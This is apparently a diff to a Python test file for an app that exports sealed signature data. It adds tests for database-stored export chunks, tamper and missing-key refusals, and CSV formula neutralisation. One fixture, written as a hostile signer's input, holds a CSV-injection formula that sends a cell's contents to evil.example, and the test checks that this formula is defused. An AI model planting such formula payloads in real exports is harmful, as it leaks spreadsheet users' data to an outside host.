@@ -3,6 +3,7 @@ on SQLite and PostgreSQL; the country filter; the auditor's browser download; th
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import zipfile
@@ -16,7 +17,7 @@ from app import create_app
 from app.admin.passwords import hash_password
 from app.extensions import db as _db
 from app.mail.delivery import deliver_due
-from app.models import AuditEntry, ExportRecord, StaffUser, Statement
+from app.models import AuditEntry, ExportChunk, ExportRecord, StaffUser, Statement
 from app.sealing import write_private_key
 from config import ProductionConfig
 
@@ -312,14 +313,19 @@ def test_auditor_creates_and_downloads_in_the_browser(app, campaign, client, db,
     _sign_in(client, "auditor@example.org")
     page = client.get(f"/admin/initiatives/{initiative.slug}/exports")
     assert page.status_code == 200
-    key_hex = client.get("/admin/export-key").get_data(as_text=True).split("hex: ")[1].strip()
+    key_hex = client.get("/admin/export-key").get_data(as_text=True).split("hex: ")[1].split()[0]
     assert key_hex in page.get_data(as_text=True)
 
     made = client.post(f"/admin/initiatives/{initiative.slug}/exports", data={"country": ["DE", "PL"]})
     assert made.status_code == 302
     export = db.session.scalar(sa.select(ExportRecord))
     assert export.created_by == "auditor@example.org" and export.countries == "DE,PL"
-    assert Path(export.directory).is_relative_to(Path(app.instance_path) / "exports")
+    assert export.directory is None  # kept in the database, on no app server's disk
+    assert not [
+        p.name for p in Path(app.instance_path).rglob("*") if p.suffix == ".sealed" or p.name == "manifest.json"
+    ]
+    names = set(db.session.scalars(sa.select(ExportChunk.name).where(ExportChunk.export_id == export.id)))
+    assert names == {"manifest.json", "DE.sealed", "PL.sealed"}
     listing = client.get(f"/admin/initiatives/{initiative.slug}/exports").get_data(as_text=True)
     assert f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip" in listing
 
@@ -331,6 +337,8 @@ def test_auditor_creates_and_downloads_in_the_browser(app, campaign, client, db,
         folder = f"{initiative.slug}-export-{export.id}"
         assert sorted(archive.namelist()) == [f"{folder}/DE.sealed", f"{folder}/PL.sealed", f"{folder}/manifest.json"]
         archive.extractall(tmp_path / "unzipped")
+    manifest = (tmp_path / "unzipped" / folder / "manifest.json").read_bytes()
+    assert hashlib.sha256(manifest).hexdigest() == export.manifest_sha256
     key_file = tmp_path / "export-key.txt"
     key_file.write_bytes(client.get("/admin/export-key").get_data())
     checked = _cli(app, "export", "verify", str(tmp_path / "unzipped" / folder), "--key-file", str(key_file))
@@ -364,10 +372,87 @@ def test_auditor_creates_and_downloads_in_the_browser(app, campaign, client, db,
     )
     assert actions == ["export.create", "export.download"]
 
-    # a file changed on the server after the fact: the download is refused rather than served
-    sealed = Path(export.directory) / "DE.sealed"
-    sealed.write_bytes(sealed.read_bytes().replace(b'"country":"DE"', b'"country":"PL"', 1))
+    # a chunk changed in the database after the fact: the download is refused rather than served
+    chunks = ExportChunk.__table__
+    where = (chunks.c.export_id == export.id, chunks.c.name == "DE.sealed")
+    data = db.session.scalar(sa.select(chunks.c.data).where(*where))
+    db.session.execute(chunks.update().where(*where).values(data=data.replace(b'"country":"DE"', b'"country":"PL"', 1)))
+    db.session.commit()
     assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 409
+
+
+@pytest.mark.fresh_app
+def test_any_app_server_serves_the_download(app, app_factory, campaign, client, db, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
+    """Issue 10: with two app servers behind a load balancer, an export made on one downloads from the other, which
+    shares the database and the secrets but no disk."""
+    initiative = campaign["initiative"]
+    _staff(db, "auditor@example.org", "auditor", [initiative])
+    _sign_in(client, "auditor@example.org")
+    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
+    export = db.session.scalar(sa.select(ExportRecord))
+    here = client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").get_data()
+
+    monkeypatch.setenv("QUORUM_INSTANCE", str(tmp_path / "second-server"))
+    second = app_factory(EXPORT_SIGNING_KEY=app.config["EXPORT_SIGNING_KEY"])
+    assert Path(second.instance_path) == tmp_path / "second-server"
+    assert not list(Path(second.instance_path).rglob("*.sealed"))  # nothing of the export on this server's disk
+    with second.app_context():
+        other = second.test_client()
+        _sign_in(other, "auditor@example.org")
+        there = other.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip")
+        assert there.status_code == 200, there.get_data(as_text=True)
+        with zipfile.ZipFile(io.BytesIO(there.get_data())) as archive, zipfile.ZipFile(io.BytesIO(here)) as first:
+            assert {n: archive.read(n) for n in archive.namelist()} == {n: first.read(n) for n in first.namelist()}
+
+
+def test_download_streams_the_stored_chunks(app, campaign, client, db, monkeypatch):  # type: ignore[no-untyped-def]
+    """A file bigger than one chunk is written as several rows and comes back whole, in order."""
+    from app.exports import store
+
+    monkeypatch.setattr(store, "CHUNK", 300)  # a few lines a chunk, cut mid-line
+    initiative = campaign["initiative"]
+    _staff(db, "auditor@example.org", "auditor", [initiative])
+    _sign_in(client, "auditor@example.org")
+    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
+    export = db.session.scalar(sa.select(ExportRecord))
+    rows = db.session.execute(
+        sa.select(ExportChunk.name, sa.func.count(), sa.func.max(sa.func.length(ExportChunk.data)))
+        .where(ExportChunk.export_id == export.id)
+        .group_by(ExportChunk.name)
+    ).all()
+    assert {name: count > 1 for name, count, _longest in rows}["DE.sealed"]
+    assert all(longest <= 300 for _name, _count, longest in rows)
+    response = client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip")
+    assert response.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
+        de = next(n for n in archive.namelist() if n.endswith("/DE.sealed"))
+        lines = archive.read(de).splitlines()
+    assert len(lines) == 2 and all(json.loads(line)["country"] == "DE" for line in lines)
+
+
+def test_download_without_a_signing_key_is_refused(app, campaign, client, db, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
+    """An app server started without EXPORT_SIGNING_KEY cannot check a stored export, so it serves none."""
+    initiative = campaign["initiative"]
+    _staff(db, "auditor@example.org", "auditor", [initiative])
+    _sign_in(client, "auditor@example.org")
+    assert client.post(f"/admin/initiatives/{initiative.slug}/exports", data={}).status_code == 302
+    export = db.session.scalar(sa.select(ExportRecord))
+    monkeypatch.setenv("QUORUM_INSTANCE", str(tmp_path / "keyless"))
+    app.config["EXPORT_SIGNING_KEY"] = ""
+    assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 503
+    assert not db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export.download"))
+
+
+def test_download_of_a_command_line_export_is_refused(app, campaign, client, db, tmp_path):  # type: ignore[no-untyped-def]
+    initiative = campaign["initiative"]
+    out = tmp_path / "cli-export"
+    assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0
+    export = db.session.scalar(sa.select(ExportRecord))
+    _staff(db, "auditor@example.org", "auditor", [initiative])
+    _sign_in(client, "auditor@example.org")
+    listing = client.get(f"/admin/initiatives/{initiative.slug}/exports").get_data(as_text=True)
+    assert "written to a folder by the command line" in listing
+    assert client.get(f"/admin/initiatives/{initiative.slug}/exports/{export.id}.zip").status_code == 410
 
 
 def test_export_pages_are_for_auditors_of_the_initiative(app, client, db):  # type: ignore[no-untyped-def]
@@ -403,3 +488,132 @@ def test_export_key_is_public_at_a_stable_url(app, client):  # type: ignore[no-u
     text = response.get_data(as_text=True)
     assert parse_verify_key(text) == instance_verify_key()
     assert f"hex: {instance_verify_key().hex()}" in text
+
+
+# Typed into the real form by a hostile signer (CONTRACT.md: values "as the signer typed them"); the CSV cell each
+# should become in a spreadsheet-safe file, written out by hand (OWASP's CSV injection rule, docs/decisions/003).
+FORMULAS = part_a(
+    "NL",
+    first_names='=HYPERLINK("https://evil.example/?"&A1,"click")',
+    family_names="@SUM(1+1)",
+    street="+31 Damrak 1",
+    postal_code="1012 LG",
+    city="'s-Gravenhage",  # an apostrophe that starts a real place name stays as it is
+    residence_country="NL",
+    date_of_birth="1971-08-19",
+    email="formulas@example.org",
+)
+IN_A_SPREADSHEET = {
+    "first_names": '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "family_names": "'@SUM(1+1)",
+    "street": "'+31 Damrak 1",
+    "postal_code": "1012 LG",
+    "city": "'s-Gravenhage",
+}
+APOSTROPHE_FORMULA = part_a(
+    "NL",
+    first_names="'=not a formula, an apostrophe",  # gets one more apostrophe, so that removing one gives it back
+    family_names="-Jansen",
+    street="Damrak 2",
+    postal_code="1012 LG",
+    city="Amsterdam",
+    residence_country="NL",
+    date_of_birth="1972-01-02",
+    email="apostrophe@example.org",
+)
+
+
+def test_open_neutralises_formulas_and_raw_keeps_them(app, mail_app, client, smtp, db, tmp_path):  # type: ignore[no-untyped-def]
+    import csv
+
+    from app.exports.cells import as_typed
+
+    initiative, private = make_initiative()
+    for data in (FORMULAS, APOSTROPHE_FORMULA):
+        _sign_and_confirm(client, smtp, initiative.slug, data)
+    key_file = tmp_path / "auditor.key"
+    write_private_key(key_file, private)
+    out = tmp_path / "export"
+    assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0
+
+    safe, raw = tmp_path / "safe", tmp_path / "raw"
+    opened = _cli(app, "export", "open", str(out), "--key", str(key_file), "--out", str(safe))
+    assert opened.exit_code == 0, opened.output
+    assert "cells that would run as a formula start with an apostrophe" in opened.output
+    opened_raw = _cli(app, "export", "open", str(out), "--key", str(key_file), "--out", str(raw), "--raw")
+    assert opened_raw.exit_code == 0, opened_raw.output
+    assert "values exactly as typed (--raw)" in opened_raw.output
+
+    def rows(folder: Path) -> dict[str, dict[str, str]]:
+        with open(folder / "NL.csv", encoding="utf-8", newline="") as handle:
+            return {row["date_of_birth"].lstrip("'"): row for row in csv.DictReader(handle)}
+
+    safe_rows, raw_rows = rows(safe), rows(raw)
+    for name, cell in IN_A_SPREADSHEET.items():
+        assert safe_rows["1971-08-19"][name] == cell, name
+        assert raw_rows["1971-08-19"][name] == FORMULAS[name], name
+    assert safe_rows["1972-01-02"]["first_names"] == "''=not a formula, an apostrophe"
+    assert safe_rows["1972-01-02"]["family_names"] == "'-Jansen"
+    assert raw_rows["1972-01-02"]["first_names"] == "'=not a formula, an apostrophe"
+    # the raw value is recoverable from every spreadsheet-safe cell: remove the one apostrophe the rule added
+    for day, row in safe_rows.items():
+        assert {k: as_typed(v) for k, v in row.items()} == raw_rows[day]
+    for row in safe_rows.values():  # no cell of the safe file starts as a formula would
+        assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_open_prints_every_note_verify_prints(app, campaign, tmp_path):  # type: ignore[no-untyped-def]
+    """Issue 7: the auditor who only runs `open` must still learn what the export leaves out."""
+    slug = campaign["initiative"].slug
+    out = tmp_path / "export"
+    made = _cli(app, "export", "create", "--initiative", slug, "--country", "FR", "--country", "DE", "--out", str(out))
+    assert made.exit_code == 0, made.output
+    verified = _cli(app, "export", "verify", str(out))
+    assert verified.exit_code == 0, verified.output
+    notes = [line for line in verified.output.splitlines() if line.startswith("note: ")]
+    assert notes == [
+        "note: only the member states chosen when the export was made are in it: DE, FR",
+        "note: 1 confirmed statement(s) are NOT in this export: they were quarantined as suspect (same network "
+        "as a bot run (1)); the instance's staff can release them or not before the final export",
+    ]
+    opened = _cli(app, "export", "open", str(out), "--key", str(campaign["key_file"]), "--out", str(tmp_path / "o"))
+    assert opened.exit_code == 0, opened.output
+    assert [line for line in opened.output.splitlines() if line.startswith("note: ")] == notes
+
+
+def test_lines_in_the_order_statements_were_given(app, db, tmp_path):  # type: ignore[no-untyped-def]
+    """Each country file lists its statements as they were given (created_at, then id), whenever they were
+    confirmed, and two exports of the same statements hold the same files byte for byte."""
+    from datetime import datetime, timedelta
+
+    from app.sealing import seal
+
+    from ..support.factories import sync_counters
+
+    initiative, _ = make_initiative()
+    start = datetime(2026, 3, 1, 9, 0, 0)
+    given = []
+    for number, (country, confirmed_after) in enumerate([("DE", 50), ("FR", 1), ("DE", 2), ("DE", 30), ("DE", 2)]):
+        statement = Statement(
+            initiative_id=initiative.id,
+            country_code=country,
+            status="confirmed",
+            identity_fingerprint=f"identity-{number}",
+            email_fingerprint=f"email-{number}",
+            sealed_data=seal(initiative.auditor_public_key, {"first_names": f"Person {number}"}),
+            created_at=start + timedelta(minutes=number if number != 4 else 3),  # 3 and 4 given the same minute
+            confirmed_at=start + timedelta(minutes=number + confirmed_after),
+        )
+        db.session.add(statement)
+        db.session.flush()
+        given.append((statement.created_at, str(statement.id), country))
+    db.session.commit()
+    sync_counters(initiative)
+
+    folders = [tmp_path / "first", tmp_path / "second"]
+    for out in folders:
+        assert _cli(app, "export", "create", "--initiative", initiative.slug, "--out", str(out)).exit_code == 0
+    ids = [json.loads(line)["id"] for line in (folders[0] / "DE.sealed").read_text().splitlines()]
+    assert ids == [statement_id for _created, statement_id, country in sorted(given) if country == "DE"]
+    for name in ("DE.sealed", "FR.sealed"):
+        assert (folders[0] / name).read_bytes() == (folders[1] / name).read_bytes()
